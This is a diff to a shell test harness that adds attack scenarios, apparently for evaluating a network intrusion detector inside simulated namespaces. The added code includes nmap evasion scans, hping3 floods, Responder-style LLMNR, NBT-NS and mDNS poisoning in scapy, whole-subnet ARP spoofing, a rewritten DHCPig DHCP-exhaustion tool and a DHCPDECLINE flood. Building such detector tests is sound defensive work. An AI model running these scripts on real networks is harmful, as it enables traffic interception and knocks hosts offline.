@@ -1951,6 +1951,203 @@ while time.time() - t0 < 6:
     time.sleep(max(0, n / 2000 - (time.time() - t0)))'
 	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
 }
+# Session 24 (det24b): the same attacks from other tools and options, the
+# shapes a pen-tester's defaults make.
+scn_nmap_sZ() { inns evil nmap -sZ -Pn -n -T4 -p 1-100 "$nas"; }
+scn_nmap_sn_PP() { inns evil nmap -sn -n --send-ip -PP "$NET.96/27"; }
+scn_nmap_sn_PM() { inns evil nmap -sn -n --send-ip -PM "$NET.96/27"; }
+scn_nmap_sn_PS() { inns evil nmap -sn -n --send-ip -PS "$NET.96/27"; }
+scn_nmap_sn_PA() { inns evil nmap -sn -n --send-ip -PA "$NET.96/27"; }
+scn_nmap_sn_PU() { inns evil nmap -sn -n --send-ip -PU "$NET.96/27"; }
+scn_nmap_sn_default_ip() { inns evil nmap -sn -n --send-ip "$NET.96/27"; }
+scn_nmap_randomize_hosts() { inns evil nmap -sS -n -T4 --randomize-hosts --top-ports 5 "$NET.96/27"; }
+scn_nmap_source_port_53() { inns evil nmap -sS -Pn -n -T4 --source-port 53 -p 1-100 "$nas"; }
+scn_nmap_mtu8() { inns evil nmap -sS -Pn -n -T4 --mtu 8 -p 1-100 "$nas"; }
+scn_nmap_sU_default() { inns evil nmap -sU -Pn -n -T4 --top-ports 30 "$nas"; }
+scn_nmap_T3_default() { inns evil nmap -Pn -n "$nas"; }
+scn_nmap_sT_top() { inns evil nmap -sT -Pn -n "$nas"; }
+scn_nmap_T0_fewer() { inns evil timeout 40 nmap -sS -Pn -n -T1 -p 21,22,23,80,443 "$nas"; }
+scn_hping_ack_flood() { inns evil timeout 3 hping3 -q -A -p 80 -i u500 "$nas"; }
+scn_hping_ack_randsrc_flood() { inns evil timeout 3 hping3 -q -A -p 80 --rand-source -i u500 "$nas"; }
+scn_hping_ackpsh_data_flood() { inns evil timeout 3 hping3 -q -A -P -d 120 -p 443 -i u500 "$nas"; }
+scn_hping_fin_flood() { inns evil timeout 3 hping3 -q -F -p 80 -i u500 "$nas"; }
+scn_hping_xmas_flood() { inns evil timeout 3 hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i u500 "$nas"; }
+scn_hping_syn_randsrc() { inns evil timeout 3 hping3 -q -S -p 80 --rand-source -i u500 "$nas"; }
+scn_hping_scan_mode() { inns evil hping3 --scan 1-200 -S "$nas"; }
+scn_hping_syn_incport_fin() { inns evil timeout 4 hping3 -q -F -p ++1 -i u10000 "$nas"; }
+scn_hping_udp_frag() { inns evil timeout 3 hping3 -q -2 -p 53 -d 1200 --frag -i u1000 "$nas"; }
+scn_hping_icmp_big() { inns evil timeout 3 hping3 -q -1 -d 1400 -i u1000 "$nas"; }
+scn_nping_tcp_connect() { inns evil nping --tcp-connect -p 1-100 --rate 200 -c 1 "$nas"; }
+scn_responder_llmnr6() {
+	# Responder's LLMNR answers over IPv6: the PC asks ff02::1:3 for three names, evil answers each with an AAAA of its own.
+	spawn evil "$py" -c 'from scapy.all import *
+conf.verb = 0
+def ans(p):
+    if p.haslayer(LLMNRQuery) and p[IPv6].src != "fe80::ba27:ebff:fe00:66" and p[LLMNRQuery].qr == 0:
+        q = p[LLMNRQuery].qd.qname
+        sendp(Ether(dst=p[Ether].src)/IPv6(src="fe80::ba27:ebff:fe00:66", dst=p[IPv6].src, hlim=1)/UDP(sport=5355, dport=p[UDP].sport)/
+              LLMNRResponse(id=p[LLMNRQuery].id, qd=DNSQR(qname=q, qtype="AAAA"), an=DNSRR(rrname=q, type="AAAA", rdata="fe80::ba27:ebff:fe00:66", ttl=30)), iface="eth0")
+sniff(iface="eth0", filter="udp port 5355 and ip6", prn=ans, timeout=8)'
+	sleep 1
+	scapy pc 'for i, n in enumerate(["filesrv", "printer2", "intranet"]):
+    sendp(Ether(dst="33:33:00:01:00:03")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::1:3", hlim=1)/UDP(sport=50100+i, dport=5355)/
+          LLMNRQuery(id=300+i, qd=DNSQR(qname=n, qtype="AAAA")), iface="eth0")
+    time.sleep(0.5)'
+	sleep 6
+}
+scn_responder_wpad_nbns() {
+	# Responder's WPAD answer over NBT-NS: the PC broadcasts a name query for WPAD, evil answers with its address.
+	spawn evil "$py" -c 'from scapy.all import *
+conf.verb = 0
+def ans(p):
+    if p.haslayer(NBNSQueryRequest) and p[IP].src != "'$NET.66'":
+        q = p[NBNSQueryRequest]
+        sendp(Ether(dst=p[Ether].src)/IP(src="'$NET.66'", dst=p[IP].src)/UDP(sport=137, dport=p[UDP].sport)/
+              NBNSHeader(NAME_TRN_ID=p[NBNSHeader].NAME_TRN_ID, RESPONSE=1, NM_FLAGS="AA+RD", ANCOUNT=1, QDCOUNT=0)/
+              NBNSQueryResponse(RR_NAME=q.QUESTION_NAME, SUFFIX=q.SUFFIX, TTL=165, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS="'$NET.66'")]), iface="eth0")
+sniff(iface="eth0", filter="udp port 137", prn=ans, timeout=8)'
+	sleep 1
+	scapy pc 'for i in range(3):
+    sendp(Ether(dst="ff:ff:ff:ff:ff:ff")/IP(src="'$NET.10'", dst="'$NET.255'")/UDP(sport=137, dport=137)/
+          NBNSHeader(NAME_TRN_ID=0x8000+i, NM_FLAGS="B+RD", QDCOUNT=1)/NBNSQueryRequest(QUESTION_NAME="WPAD", SUFFIX="workstation"), iface="eth0")
+    time.sleep(0.75)'
+	sleep 6
+}
+scn_responder_mdns6() {
+	# Responder's mDNS answers over IPv6: the PC asks ff02::fb for three .local names, evil answers each with its own AAAA.
+	spawn evil "$py" -c 'from scapy.all import *
+conf.verb = 0
+def ans(p):
+    if p.haslayer(DNS) and p[DNS].qr == 0 and p[IPv6].src != "fe80::ba27:ebff:fe00:66" and p[DNS].qd:
+        q = p[DNS].qd.qname
+        sendp(Ether(dst="33:33:00:00:00:fb")/IPv6(src="fe80::ba27:ebff:fe00:66", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
+              DNS(id=0, qr=1, aa=1, qd=None, an=DNSRR(rrname=q, type="AAAA", rdata="fe80::ba27:ebff:fe00:66", ttl=120)), iface="eth0")
+sniff(iface="eth0", filter="udp port 5353 and ip6", prn=ans, timeout=8)'
+	sleep 1
+	scapy pc 'for i, n in enumerate(["nas.local", "printer.local", "fileserver.local"]):
+    sendp(Ether(dst="33:33:00:00:00:fb")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
+          DNS(id=0, qr=0, qd=DNSQR(qname=n, qtype="AAAA")), iface="eth0")
+    time.sleep(0.5)'
+	sleep 6
+}
+scn_bettercap_probe() {
+	# bettercap net.probe: NBNS, mDNS, SSDP and WS-Discovery probes to every address of the /24, 10 ms apart,
+	# from ordinary UDP sockets (the kernel resolves each address; the probes to silent ones die in its queue).
+	inns evil "$py" -c 'import socket, struct, time
+nb = struct.pack(">6H", 0x1337, 0, 1, 0, 0, 0) + b"\x20" + b"CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" + b"\x00" + struct.pack(">2H", 0x21, 1)
+md = struct.pack(">6H", 0, 0, 1, 0, 0, 0) + b"\x09_services\x07_dns-sd\x04_udp\x05local\x00" + struct.pack(">2H", 12, 1)
+ssdp = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n"
+wsd = b"<?xml version=\"1.0\"?><soap:Envelope><soap:Body><wsd:Probe/></soap:Body></soap:Envelope>"
+socks = [(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), p, pl) for p, pl in ((137, nb), (5353, md), (1900, ssdp), (3702, wsd))]
+for i in range(1, 255):
+    if i == 66: continue
+    for s, p, pl in socks:
+        try: s.sendto(pl, ("'$NET'.%d" % i, p))
+        except OSError: pass
+    time.sleep(0.01)
+time.sleep(4)'
+}
+scn_bettercap_arp_spoof() {
+	# bettercap arp.spoof, whole subnet (its default targets), full duplex off: is-at replies claiming the gateway to every
+	# known host each second, and answers to who-has for the gateway's address from anyone.
+	spawn nas ping -q -c 30 -i 0.3 "$NET.10"
+	scapy evil 'import threading
+targets = [("'$NET'.10", "3c:52:82:00:00:10"), ("'$NET'.11", "f0:1f:af:00:00:11"), ("'$NET'.30", "00:11:32:00:00:30")] + [("'$NET'.%d" % i, "00:50:56:00:01:%02x" % i) for i in range(100, 130)]
+def answer(p):
+    if p.haslayer(ARP) and p[ARP].op == 1 and p[ARP].pdst == "'$NET.1'" and p[ARP].hwsrc != mac:
+        sendp(Ether(src=mac, dst=p[ARP].hwsrc)/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst=p[ARP].hwsrc, pdst=p[ARP].psrc), iface="eth0")
+threading.Thread(target=lambda: sniff(iface="eth0", filter="arp", prn=answer, timeout=9), daemon=True).start()
+for r in range(8):
+    sendp([Ether(src=mac, dst=m)/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst=m, pdst=ip) for ip, m in targets], iface="eth0")
+    time.sleep(1)'
+}
+# DHCPig (pig.py, kamorin/DHCPig), rewritten for the system's Python 3 with
+# its timings: a DISCOVER every 0.4 s from a random 00:0c:29 MAC (frame
+# source and chaddr), each OFFER answered with a REQUEST from that MAC;
+# with -n an ARP scan of the /24 from a random MAC claiming the server's
+# address, with -r a forged DHCPRELEASE for every neighbour found (its MAC
+# and address, to the server); pool exhausted after 6 s with no OFFER,
+# then with -g, 8 s later, a gratuitous ARP for every address of the /24,
+# each from a random MAC ("knock everyone offline").
+cat >"$tmp/pig.py" <<'EOF'
+import random, string, sys, threading, time
+from scapy.all import *
+conf.verb = 0; conf.checkIPaddr = False
+opts = sys.argv[1] if len(sys.argv) > 1 else ""
+state = {"sip": None, "smac": None, "last": 0.0, "dos": False}
+def rmac(): return "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+nodes = {}
+def on(p):
+    if ARP in p and p[ARP].op == 2 and p[ARP].pdst == state["sip"]:
+        nodes[p[ARP].hwsrc] = p[ARP].psrc
+    if DHCP in p and p[DHCP].options[0][1] == 2:
+        state["sip"], state["smac"], state["last"] = p[IP].src, p[Ether].src, time.time()
+        m = ":".join("%02x" % b for b in bytes(p[BOOTP].chaddr)[:6])
+        host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
+        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(m), xid=p[BOOTP].xid)/DHCP(options=[("message-type", "request"), ("server_id", p[IP].src), ("requested_addr", p[BOOTP].yiaddr), ("hostname", host), "end"]), iface="eth0")
+def sniffer():
+    while not state["dos"]:
+        sniff(iface="eth0", filter="arp or (udp and src port 67 and dst port 68)", prn=on, store=0, timeout=3)
+        if state["last"] and time.time() - state["last"] > 6: state["dos"] = True
+def discover():
+    while not state["dos"]:
+        m = rmac(); host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
+        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "discover"), ("hostname", host), "end"]), iface="eth0")
+        time.sleep(0.4)
+threading.Thread(target=sniffer, daemon=True).start()
+threading.Thread(target=discover, daemon=True).start()
+while state["sip"] is None: time.sleep(2)
+if "n" in opts: # srp's answers, read by the sniffer (srp beside it in threads hung)
+    m = rmac()
+    sendp([Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=state["sip"], pdst=a) for a in Net(state["sip"] + "/24")], iface="eth0")
+    time.sleep(8)
+if "r" in opts:
+    x = random.randint(1, 900000000)
+    for m, ip in list(nodes.items()):
+        sendp(Ether(src=m, dst=state["smac"])/IP(src=ip, dst=state["sip"])/UDP(sport=68, dport=67)/BOOTP(ciaddr=ip, chaddr=mac2str(m), xid=x)/
+              DHCP(options=[("message-type", "release"), ("server_id", state["sip"]), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0")
+deadline = time.time() + 90
+while not state["dos"] and time.time() < deadline: time.sleep(1)
+if "g" in opts:
+    time.sleep(8)
+    base = state["sip"].rsplit(".", 1)[0]
+    for i in range(0, 256):
+        m = rmac(); ip = "%s.%d" % (base, i)
+        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")
+EOF
+scn_dhcpig_default() { inns evil "$py" "$tmp/pig.py"; }
+scn_dhcpig_release_garp() { inns evil "$py" "$tmp/pig.py" nrg; }
+# A DHCPDECLINE flood: a DECLINE (RFC 2131 4.4.1: the address is in use,
+# the server sets it aside) for each of 60 addresses (.150-.209, the
+# gateway's pool and past it), each from its own random unicast MAC in
+# DHCPig's 00:0c:29 block (frame source and chaddr), 20 a second, with no
+# DISCOVER before: the pool emptied without a lease.
+scn_dhcp_decline_flood_scapy() {
+	scapy evil 'ps = []
+for i in range(150, 210):
+    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "decline"), ("requested_addr", "'$NET'.%d" % i), ("server_id", "'$NET.1'"), "end"]))
+sendp(ps, iface="eth0", inter=0.05)'
+	sleep 25 # no forged client shows a stack afterwards
+}
+# DHCPig -g's last step alone: a gratuitous ARP request (sender and target
+# the same address) for every address of the /24, each from its own random
+# MAC in the 00:0c:29 block, back to back: every host's entry for every
+# neighbour, the gateway's included, bound to a MAC nobody has.
+scn_dhcpig_garp_scapy() {
+	local i; for i in $(seq 100 129); do spawn "h$i" ping -q -c 2 -i 0.5 "$NET.1"; done # the quiet hosts bound too
+	sleep 2
+	scapy evil 'ps = []
+for i in range(0, 256):
+    m = "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+    a = "'$NET'.%d" % i
+    ps.append(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=a, hwdst="00:00:00:00:00:00", pdst=a))
+sendp(ps, iface="eth0")'
+	sleep 2
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
